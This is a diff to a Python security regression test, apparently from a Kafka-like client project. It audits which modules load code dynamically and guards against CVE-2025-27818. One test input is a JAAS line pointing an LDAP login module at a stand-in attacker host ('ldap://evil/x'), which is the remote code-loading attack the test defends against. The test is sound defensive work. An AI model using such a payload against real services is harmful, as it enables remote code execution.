@@ -233,17 +233,44 @@ def test_cve_2025_27817_urls_in_the_configuration_must_be_allowed(url: str) -> N
 
 
 def test_cve_2025_27818_no_class_is_loaded_by_a_name_in_the_configuration() -> None:
-    """A JAAS line could name an LDAP login module, which loaded and ran code from an LDAP server."""
+    """A JAAS line could name an LDAP login module, which loaded and ran code from an LDAP server.
+
+    Every place that loads code by a name is here, with where its names come from.
+    """
     source = Path(ottla.__file__).parent
-    loaded = set()
-    for package in ("broker", "security", "wire", "network", "client", "controller", "metadata"):
-        for file in (source / package).rglob("*.py"):
-            for node in ast.walk(ast.parse(file.read_text())):
-                if isinstance(node, ast.Call):
-                    name = getattr(node.func, "attr", getattr(node.func, "id", ""))
-                    if name in {"import_module", "__import__", "exec", "eval", "load_module"}:
-                        loaded.add(ast.unparse(node))
-    assert loaded == {"import_module('ottla.client.record_columns')"}, "a name that is in the code itself"
+    loading = {"import_module", "__import__", "exec", "eval", "load_module", "exec_module"}
+    found = set()
+    for file in source.rglob("*.py"):
+        text = file.read_text()
+        if not any(each in text for each in loading):
+            continue
+        for node in ast.walk(ast.parse(text)):
+            called = node.func if isinstance(node, ast.Call) else None
+            if getattr(called, "attr", getattr(called, "id", "")) in loading:
+                found.add(str(file.relative_to(source)))
+    assert found == {
+        # names of our own modules, in the code itself
+        "__init__.py",
+        "api/support/reference_pages.py",
+        "api/table.py",
+        "cli/pipeline/command.py",
+        "cli/support/lazy_group.py",
+        "client/consumer/fetching/record.py",
+        "common/lazy_exports.py",
+        "protocol/consumer_protocol.py",
+        "protocol/records/checksum.py",
+        "protocol/records/compiled.py",
+        "registry/formats/patterns.py",
+        "spark/runtime/early_connection.py",
+        "spark/runtime/warm_python.py",
+        # the user's own code, on the user's own machine
+        "spark/pipelines/loading.py",
+        # the worker's plugin.path; a connector's config names known drivers only (decision 520)
+        "connect/plugins.py",
+        "connect/connectors/dbapi.py",
+        # Google's own files, which every schema may import
+        "registry/serdes/protobuf_codec.py",
+    }
     login = parse_jaas('com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil/x";')
     assert login.users == {}, "the name of a module is only text, and it brings no user"
 
